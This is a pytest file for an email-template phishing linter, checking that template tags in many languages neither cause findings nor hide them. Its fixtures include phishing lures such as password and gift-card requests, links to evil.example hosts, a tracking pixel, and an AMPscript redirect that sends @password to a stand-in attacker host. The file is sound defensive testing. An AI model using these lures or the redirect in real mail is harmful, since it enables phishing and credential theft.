"""Templates: a tag causes no finding by itself, and hides none beside it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mails import CALM, FOOT, lint_page, page

from forewarn.lint.severity import Severity
from forewarn.mail.links import parse_link
from forewarn.mail.template_tags import TEMPLATE_TAG, between_template_tags, has_template_tag, inert_template_tags

# One output of each language, named so that the letters inside would be found if they counted as words.
OUTPUTS = {
    "jinja": "{{ urgent_password | default('act now') }}",
    "jinja call": '{{ url_for("verify_account", next="login") }}',
    "jinja comment": "{# confirm your password now #}",
    "handlebars": "{{customer.name}}",
    "handlebars raw": "{{{ pm:password_reset_url }}}",
    "handlebars comment": "{{!-- act now, {{ verify }} your account --}}",
    "liquid": '{{ order.total | money | append: " 50% off" }}',
    "liquid comment": "{% comment %} confirm your password {% endcomment %}",
    "braze": "{{${first_name} | default: 'claim your prize'}}",
    "klaviyo": "{{ first_name|default:'confirm your password' }}",
    "hubspot": "{{ contact.login_url }}",
    "customer.io": "{{customer.login_url | escape}}",
    "go": "{{- .Account.Password -}}",
    "erb": '<%= link_to "Verify your account", login_url > 1 %>',
    "adobe": "<%= recipient.password %>",
    "php": '<?= $user->name ?? "confirm your password" ?>',
    "freemarker": "${user.password!'act now'}",
    "mailchimp": "*|PASSWORD|*",
    "ampscript field": "%%login_url%%",
    "ampscript call": '%%=RedirectTo(Concat("https://login.evil.example/verify?", @password))=%%',
    "ampscript block": '%%[ SET @url = "https://evil.example/login" IF @a == "50%" THEN ]%%',
    "sendgrid": "<%asm_group_unsubscribe_raw_url%>",
    "sendgrid legacy": "[%verify_account%]",
    "mailjet": '[[data:password:"act now"]]',
    "mailgun": "%recipient.password%",
    "activecampaign": "%PASSWORD%",
    "mailerlite": "{$password}",
    "salesforce": "{!Contact.Password}",
}
PAIRS = {
    "jinja": ("{% if order.total > 5 and a != '50%' %}", "{% endif %}"),
    "handlebars": ('{{#if (eq plan "pro")}}', "{{/if}}"),
    "erb": ("<% if user.age > 18 %>", "<% end %>"),
    "mailchimp": ("*|IF:PASSWORD=1|*", "*|END:IF|*"),
    "ampscript": ('%%[ IF @x == "a>b" THEN ]%%', "%%[ ENDIF ]%%"),
    "go": ("{{- if gt .Total 5 -}}", "{{- end -}}"),
    "php": ("<?php if ($a > 1): ?>", "<?php endif ?>"),
    "freemarker": ("<#if total gt 5>", "</#if>"),
    "sendgrid": ('{{#equals plan "pro"}}', "{{/equals}}"),
}
PLACES = {
    "text": f"<p>{CALM['en']} Hello TAG, thank you.</p>",
    "link": '<p><a href="TAG">Your parcel</a></p>',
    "link in single quotes": "<p><a href='TAG'>Your parcel</a></p>",
    "link words": '<p><a href="https://www.alder.example/">TAG</a></p>',
    "link of one tag": '<p><a href="TAG">TAG</a></p>',
    "host": '<p><a href="https://TAG/">Your parcel</a></p>',
    "host label": '<p><a href="https://TAG.alder.example/">Your parcel</a></p>',
    "path": '<p><a href="https://www.alder.example/TAG">Your parcel</a></p>',
    "query": '<p><a href="https://www.alder.example/x?id=TAG">Your parcel</a></p>',
    "scheme": '<p><a href="TAG://www.alder.example/">Your parcel</a></p>',
    "picture": '<p><img src="TAG" alt="TAG" width="TAG" height="40"></p>',
    "picture's path": '<p><img src="https://www.alder.example/TAG.png" alt="A parcel" width="40" height="40"></p>',
    "phone": '<p><a href="tel:TAG">Our desk</a></p>',
    "address": '<p><a href="mailto:TAG">Our desk</a></p>',
    "address in words": '<p><a href="mailto:TAG@alder.example">TAG@alder.example</a></p>',
    "amount": "<p>You paid €TAG (TAG €) on TAG, by card ending in TAG.</p>",
    "colour": '<p style="color:TAG">Thank you.</p>',
    "ground": '<p style="background-color:TAG;color:#ffffff">Thank you.</p>',
    "ground of a cell": '<table><tr><td bgcolor="TAG" style="color:#ffffff">Thank you.</td></tr></table>',
    "size": '<p style="font-size:TAGpx;display:TAG">Thank you.</p>',
    "class": '<p class="TAG" id="TAG">Thank you.</p>',
    "comment": "<p>Thank you.</p><!-- TAG -->",
    "title": "<title>TAG</title><p>Thank you.</p>",
}


def rules_of(body, message_class="transactional"):
    """The rules that find something in a page of the sample brand."""
    report = lint_page(page(f"<p>Hello Alder customer,</p>{body}<p>{FOOT}</p>"), message_class)
    return {f.rule for f in report.findings if f.severity is not Severity.INFO}


def lint_body(body):
    return lint_page(page(f"{body}<p>{FOOT}</p>"), "transactional")


@pytest.mark.parametrize("message_class", ["transactional", "marketing", "care"])
@pytest.mark.parametrize("language", OUTPUTS)
def test_a_tag_causes_no_finding_by_itself(language, message_class):
    filled = {"phone": "+35316795000", "colour": "#222222", "ground": "#222222", "ground of a cell": "#222222"}
    for place, body in PLACES.items():
        plain = {"size": "16", "scheme": "https", "picture": "", "host": "www.alder.example"} | filled
        usual = rules_of(body.replace("TAG", plain.get(place, "a7")), message_class)
        tagged = rules_of(body.replace("TAG", OUTPUTS[language]), message_class)
        # A field of personal data in an address is what FW-PV-02 is for.
        expected = usual | (
            {"FW-PV-02"}
            if place in ("path", "query", "picture's path") and "first_name" in OUTPUTS[language]
            else set()
        )
        assert tagged <= expected, f"{language} in {place}: {tagged - expected}"


@pytest.mark.parametrize("language", PAIRS)
def test_a_condition_causes_no_finding_wherever_it_stands(language):
    opens, closes = PAIRS[language]
    usual = rules_of(f"<table><tr><td class='a'>{CALM['en']}</td></tr></table>")
    for body in (
        f"{opens}<table><tr><td class='a'>{CALM['en']}</td></tr></table>{closes}",
        f"<table>{opens}<tr><td class='a'>{CALM['en']}</td></tr>{closes}</table>",
        f"<table><tr>{opens}<td class='a'>{CALM['en']}</td>{closes}</tr></table>",
        f"<table><tr><td {opens}class='a'{closes}>{CALM['en']}</td></tr></table>",
        f'<table><tr><td class="{opens}a{closes}">{CALM["en"]}</td></tr></table>',
    ):
        assert rules_of(body) <= usual, body


LURES = {
    "FW-LK-01": '{}<a href="https://www.alder.example/login/{}">Your parcel{}</a>{}',
    "FW-LK-02": '{}<a href="https://www.evil.example/{}">Your parcel{}</a>{}',
    "FW-LK-04": '{}<a href="https://bit.ly/x{}">Your parcel{}</a>{}',
    "FW-LK-05": '{}<a href="https://www.evil.example/{}">www.alder.example/{}</a>{}',
    "FW-LK-06": '{}<a href="http://192.0.2.7/{}">Your parcel{}</a>{}',
    "FW-RQ-01": "<p>{} Reply and confirm your password {} {} today.</p>{}",
    "FW-RQ-03": "<p>{} Buy gift cards and send us the codes. {} {}</p>{}",
    "FW-PR-03": "<p>{} You have won a prize, claim your prize. {} {}</p>{}",
    "FW-PV-01": '{}<img src="https://pixel.evil.example/o?u={}" width="1" height="1" alt="{}">{}',
    "FW-RQ-02": '{}<form action="{}"><input name="card" value="{}"></form>{}',
    "FW-RD-05": "<p>{} Dear [First Name], {} {}</p>{}",
}


@pytest.mark.parametrize("rule", LURES)
@pytest.mark.parametrize("language", OUTPUTS)
def test_a_tag_hides_no_finding_beside_it(rule, language):
    assert rule in rules_of(LURES[rule].format("", "", "", "")), "the lure itself must be found"
    tag = OUTPUTS[language].replace('"', "'")
    for place in range(4):
        body = LURES[rule].format(*(tag if at == place else "" for at in range(4)))
        assert rule in rules_of(body), body


@pytest.mark.parametrize("language", PAIRS)
def test_words_in_a_condition_are_read(language):
    opens, closes = PAIRS[language]
    assert "FW-RQ-01" in rules_of(f"<p>{opens}Reply and confirm your password.{closes}</p>")
    assert "FW-RQ-01" in rules_of(f"<p>Reply and confirm {opens}your password{closes}.</p>")
    assert "FW-RQ-02" in rules_of(f"{opens}<form><input name='card'></form>{closes}")


@pytest.mark.parametrize("language", PAIRS)
def test_every_address_of_a_conditional_link_is_judged(language):
    opens, closes = (part.replace('"', "'") for part in PAIRS[language])
    link = f'<a href="{opens}https://www.alder.example/a{closes}https://www.evil.example/b">Your parcel</a>'
    report = lint_body(link)
    assert [f.message for f in report.findings if f.rule == "FW-LK-02"] == [
        "A link leads to www.evil.example, which is not under the brand's domain."
    ]


def test_a_tag_for_part_of_a_host_leaves_its_owner_known():
    assert not parse_link("https://{{ shop }}.evil.example/").has_open_host
    assert parse_link("https://{{ shop }}/").has_open_host
    assert parse_link("https://www.{{ shop }}/").has_open_host
    assert parse_link("https://www.{{ shop }}.com/").has_open_host
    assert "FW-LK-02" in rules_of('<a href="https://{{ shop }}.evil.example/">Your parcel</a>')


def test_letters_in_a_colour_that_a_tag_names_are_seen():
    for style in ("background:{{ brand }}", "background:{% if a %}#123456{% endif %}", "background-color:var(--brand)"):
        body = f'<table><tr><td style="color:#ffffff;{style}">Confirm your password.</td></tr></table>'
        assert "FW-RQ-01" in rules_of(body), style


def test_words_and_places_are_those_of_the_source():
    body = (
        '<p>{{ greet("x > y") }}</p>\n<p><a href="{{ url("a") }}https://evil.example/">{{ word("b") }} Parcel</a></p>'
    )
    source = page(body)
    report = lint_page(source, "transactional")
    finding = next(f for f in report.findings if f.rule == "FW-LK-02")
    line = source.split("\n")[finding.where.line - 1]
    assert line[finding.where.column - 1 :].startswith("<a href=")


@pytest.mark.parametrize("tag", OUTPUTS.values())
def test_tags_are_known_whole(tag):
    assert TEMPLATE_TAG.sub("", f"a {tag} b") == "a  b"


@given(st.text(alphabet="{}%<>$'*|[]=#?!/ aAXZ_.recipnt-", max_size=40))
def test_a_tag_is_never_passed_over(text):
    assert has_template_tag(text) == bool(TEMPLATE_TAG.search(text))


@given(st.text(alphabet="{}%<>\"'*|[]=#?! ax-", max_size=80))
def test_inert_tags_keep_every_place(source):
    quiet, _ = inert_template_tags(source)
    assert len(quiet) == len(source)
    assert quiet.count("\n") == source.count("\n")


def test_stretches_between_tags():
    assert between_template_tags("{% if a %}https://a/{% else %}https://b/{% endif %}") == ["https://a/", "https://b/"]


OPENINGS = [
    "{{",
    "{%",
    "{#",
    "*|a",
    "%%=",
    "%%[",
    "${",
    "<%",
    "<?",
    "[%",
    "[[",
    "{!",
    "%A",
    "{{!--",
    "{{!---",
    "{%comment%}",
    "{{{a}",
    "{{a{",
    "<#a",
    "%%[]%",
    "%recipient.",
]


@pytest.mark.parametrize("unit", OPENINGS)
def test_openings_without_an_end_take_linear_time(unit):
    def seconds(length):
        source = (unit * length)[:length]
        begun = time.process_time()
        TEMPLATE_TAG.sub("", source)
        return time.process_time() - begun

    assert seconds(200_000) < 6.0, "quadratic time takes minutes"


@pytest.mark.parametrize(
    ("tag", "is_tag"),
    [
        ("{{ a.b }}", True),
        ("{{{raw}}}", True),
        ("{% if a %}", True),
        ("*|FNAME|*", True),
        ("%%name%%", True),
        ("${name}", True),
        ("<%= x %>", True),
        ("[[name]]", True),
        ("{$x}", True),
        ("50% and 20%", False),
        ("{ a }", False),
        ("[a]", False),
        ("$5", False),
        ("2 * | 3", False),
        ("100%SAFE%", False),
        ("x%20ABC%20y", False),
        ("{!}", False),
    ],
)
def test_what_is_a_tag(tag, is_tag):
    assert bool(TEMPLATE_TAG.search(tag)) is is_tag
